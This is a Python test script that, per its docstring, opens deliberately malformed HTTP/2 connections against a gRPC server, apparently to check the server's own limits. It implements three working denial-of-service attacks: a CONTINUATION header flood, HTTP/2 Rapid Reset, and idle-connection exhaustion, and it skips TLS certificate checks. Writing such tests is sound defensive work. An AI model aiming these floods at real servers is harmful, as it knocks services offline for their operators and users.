#!/usr/bin/python3
"""Hostile HTTP/2 clients against the gRPC port, written frame by frame (no HTTP/2
library: the point is to send what a correct client never would). Usage:
  http2_hostile.py MODE HOST PORT N [HOLD_S]
(from source address 127.0.0.2 when HOST is 127.0.0.1, so that the server's limit per
peer address binds the attacker, not the test's normal client on 127.0.0.1); over TLS
(ALPN h2, the server's certificate not checked) when H2_TLS=1 is in the environment
  continuation  one connection: HEADERS without END_HEADERS, then N KiB of CONTINUATION
  reset         one connection: N streams, each HEADERS then RST_STREAM at once (Rapid Reset)
  idle          N connections that send the preface and SETTINGS, then nothing
then keeps its sockets open HOLD_S seconds (default 3) and exits 0; "done" on stdout
once everything was sent (a connection the server ended is reported, not an error)."""
import os
import socket
import ssl
import struct
import sys
import time


def connect(host, port):
    source = ("127.0.0.2", 0) if host == "127.0.0.1" else None
    s = socket.create_connection((host, port), source_address=source)
    if os.environ.get("H2_TLS") == "1":
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        s = ctx.wrap_socket(s, server_hostname=host)
    return s


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """An HPACK literal header field without indexing, new name (RFC 7541 6.2.2)."""
    def length(n):  # 7-bit prefix integer, no Huffman
        if n < 127:
            return bytes([n])
        out, n = [127], n - 127
        while n >= 128:
            out.append((n & 127) | 128)
            n >>= 7
        return bytes(out + [n])
    return b"\x00" + length(len(name)) + name + length(len(value)) + value


HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 1, 3, 4, 9
END_HEADERS, CANCEL = 4, 8
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, b"")
CALL = b"".join(literal(k, v) for k, v in [(b":method", b"POST"), (b":scheme", b"http"),
                                           (b":path", b"/metamorph.v1.MetaMorph/GetModelInfo"),
                                           (b":authority", b"localhost"), (b"content-type", b"application/grpc"),
                                           (b"te", b"trailers")])


def send_all(sock, frames, what):
    try:
        sock.sendall(frames)
        return True
    except OSError as e:
        print(what, "ended by the server:", e)
        return False


def continuation(host, port, kib):
    s = connect(host, port)
    s.sendall(PREFACE + frame(HEADERS, 0, 1, CALL))
    chunk = b"".join(literal(b"x-pad-%d" % i, b"a" * 1000) for i in range(15))  # ~15 KiB a frame
    sent = 0
    while sent < kib << 10 and send_all(s, frame(CONTINUATION, 0, 1, chunk), "continuation"):
        sent += len(chunk)
    return [s]


def rapid_reset(host, port, n):
    s = connect(host, port)
    s.sendall(PREFACE)
    batch = b""
    for i in range(n):
        stream = 2 * i + 1
        batch += frame(HEADERS, END_HEADERS, stream, CALL) + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
        if len(batch) > 65536 or i == n - 1:
            if not send_all(s, batch, "rapid reset"):
                break
            batch = b""
    return [s]


def idle(host, port, n):
    socks = []
    refused = 0
    for _ in range(n):
        s = connect(host, port)
        try:
            s.sendall(PREFACE)
        except OSError:
            refused += 1
        socks.append(s)
    time.sleep(0.5)  # the server closes what it refuses at once: count what is still open
    for s in socks:
        s.setblocking(False)
        try:
            if s.recv(65536, socket.MSG_PEEK) == b"":
                refused += 1
        except BlockingIOError:
            pass
        except OSError:
            refused += 1
    print("idle: %d of %d connections closed by the server" % (refused, n))
    return socks


mode, host, port, n = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
held = {"continuation": continuation, "reset": rapid_reset, "idle": idle}[mode](host, port, n)
print("done", flush=True)
time.sleep(float(sys.argv[5]) if len(sys.argv) > 5 else 3)
